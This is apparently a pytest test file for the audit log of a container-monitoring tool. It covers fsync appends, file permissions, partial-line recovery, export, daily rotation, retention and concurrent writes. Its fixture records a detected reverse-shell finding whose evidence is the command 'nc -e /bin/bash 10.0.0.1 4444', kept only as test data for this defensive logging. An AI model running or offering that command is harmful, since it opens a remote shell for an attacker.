"""The audit log: append + fsync, permissions, crash safety, rotation, export."""

from __future__ import annotations

import json
import os
import stat
import threading
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from coi.monitor import audit, rotation
from coi.monitor.findings import Finding, Severity

NOW = datetime(2025, 3, 10, 12, 0, tzinfo=UTC)


def record(severity: Severity, n: int = 0, when: datetime = NOW) -> dict[str, object]:
    finding = Finding(severity, "reverse_shell", "Reverse shell detected",
                      {"pid": 1235, "cmdline": "nc -e /bin/bash 10.0.0.1 4444", "n": n})
    return audit.event(finding, "coi-abc-1", "killed", when)


def test_append_writes_one_versioned_line_per_event(tmp_path: Path) -> None:
    path = audit.audit_path(tmp_path / ".coi", "coi-abc-1")
    log = audit.AuditLog(path)
    log.append(record(Severity.CRITICAL))
    log.append(record(Severity.WARNING, 1))
    lines = path.read_text().splitlines()
    assert len(lines) == 2
    first = json.loads(lines[0])
    assert first["v"] == audit.SCHEMA_VERSION and first["severity"] == "critical"
    assert first["container"] == "coi-abc-1" and first["action"] == "killed"
    assert first["evidence"]["pid"] == 1235 and first["time"].startswith("2025-03-10T12:00")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700


def test_existing_open_directory_is_tightened(tmp_path: Path) -> None:
    directory = tmp_path / "audit"
    directory.mkdir(mode=0o755)
    audit.AuditLog(directory / "c.jsonl").append({"x": 1})
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700


def test_bad_container_names_are_refused(tmp_path: Path) -> None:
    for name in ("", "../x", ".hidden", "a/b"):
        with pytest.raises(ValueError):
            audit.audit_path(tmp_path, name)


def test_read_filters_levels(tmp_path: Path) -> None:
    log = audit.AuditLog(tmp_path / "c.jsonl")
    for n, severity in enumerate(Severity):
        log.append(record(severity, n))
    picked = audit.read(log.path, [Severity.CRITICAL, Severity.HIGH])
    assert [e["severity"] for e in picked] == ["high", "critical"]
    assert len(audit.read(log.path)) == 4
    assert audit.read(tmp_path / "missing.jsonl") == []


def test_partial_last_line_is_skipped_and_next_append_is_clean(tmp_path: Path) -> None:
    log = audit.AuditLog(tmp_path / "c.jsonl")
    log.append(record(Severity.HIGH, 1))
    with log.path.open("ab") as handle:  # a writer that died mid-line
        handle.write(b'{"v":1,"severity":"crit')
    assert [e["evidence"]["n"] for e in audit.read(log.path)] == [1]
    log.append(record(Severity.HIGH, 2))
    assert [e["evidence"]["n"] for e in audit.read(log.path)] == [1, 2]


def test_newlines_in_evidence_cannot_split_a_line(tmp_path: Path) -> None:
    log = audit.AuditLog(tmp_path / "c.jsonl")
    log.append({"evidence": {"cmdline": "sh -c 'a\nb'"}})
    assert len(log.path.read_text().splitlines()) == 1
    assert audit.read(log.path)[0]["evidence"]["cmdline"] == "sh -c 'a\nb'"


def test_export_is_a_json_array(tmp_path: Path) -> None:
    log = audit.AuditLog(tmp_path / "c.jsonl")
    log.append(record(Severity.HIGH))
    dest = tmp_path / "report.json"
    audit.export(audit.read(log.path), dest)
    data = json.loads(dest.read_text())
    assert isinstance(data, list) and data[0]["severity"] == "high"
    assert stat.S_IMODE(dest.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_rotation_moves_yesterday_aside_and_keeps_today(tmp_path: Path) -> None:
    directory = tmp_path / "audit"
    old = audit.AuditLog(directory / "c1.jsonl")
    old.append(record(Severity.HIGH, 1, NOW - timedelta(days=1)))
    fresh = audit.AuditLog(directory / "c2.jsonl")
    fresh.append(record(Severity.HIGH, 2, NOW))
    assert rotation.rotate(directory, 30, NOW) == []
    names = sorted(p.name for p in directory.glob("*.jsonl"))
    assert names == ["c1.2025-03-09.jsonl", "c2.jsonl"]
    old.append(record(Severity.INFO, 3))  # a new live file
    assert [e["evidence"]["n"] for e in rotation.read_all(directory, "c1")] == [1, 3]


def test_retention_deletes_only_old_rotated_files(tmp_path: Path) -> None:
    directory = tmp_path / "audit"
    for day, name in ((40, "c1.2025-01-29.jsonl"), (5, "c1.2025-03-05.jsonl")):
        path = directory / name
        audit.AuditLog(path).append(record(Severity.INFO, day))
        stamp = (NOW - timedelta(days=day)).timestamp()
        os.utime(path, (stamp, stamp))
    deleted = rotation.rotate(directory, 30, NOW)
    assert [p.name for p in deleted] == ["c1.2025-01-29.jsonl"]
    assert (directory / "c1.2025-03-05.jsonl").exists()


def test_same_day_rotations_get_distinct_names_in_order(tmp_path: Path) -> None:
    directory = tmp_path / "audit"
    log = audit.AuditLog(directory / "c1.jsonl")
    day = NOW - timedelta(days=3)
    for n in range(3):
        log.append(record(Severity.INFO, n, day))
        rotation.rotate(directory, 30, NOW)
    files = [p.name for p in rotation.log_files(directory, "c1")]
    assert files[:3] == ["c1.2025-03-07.jsonl", "c1.2025-03-07-1.jsonl",
                         "c1.2025-03-07-2.jsonl"]
    assert [e["evidence"]["n"] for e in rotation.read_all(directory, "c1")] == [0, 1, 2]


def test_rotation_never_loses_a_concurrent_line(tmp_path: Path) -> None:
    """Writers append as fast as they can while rotation moves the live file aside
    again and again; every line ends up in exactly one file."""
    directory = tmp_path / "audit"
    stop = threading.Event()
    per_writer = 300

    def write(w: int) -> None:
        log = audit.AuditLog(directory / "c1.jsonl")
        for n in range(per_writer):
            log.append({"time": (NOW - timedelta(days=2)).isoformat(), "w": w, "n": n})

    def rotate() -> None:
        while not stop.is_set():
            rotation.rotate(directory, 30, NOW)

    writers = [threading.Thread(target=write, args=(w,)) for w in range(4)]
    rotators = [threading.Thread(target=rotate) for _ in range(2)]
    for thread in (*rotators, *writers):
        thread.start()
    for thread in writers:
        thread.join()
    stop.set()
    for thread in rotators:
        thread.join()
    seen = [(e["w"], e["n"]) for e in rotation.read_all(directory, "c1")]
    assert len(seen) == len(set(seen)) == 4 * per_writer
    assert len(rotation.log_files(directory, "c1")) > 2  # rotation really happened
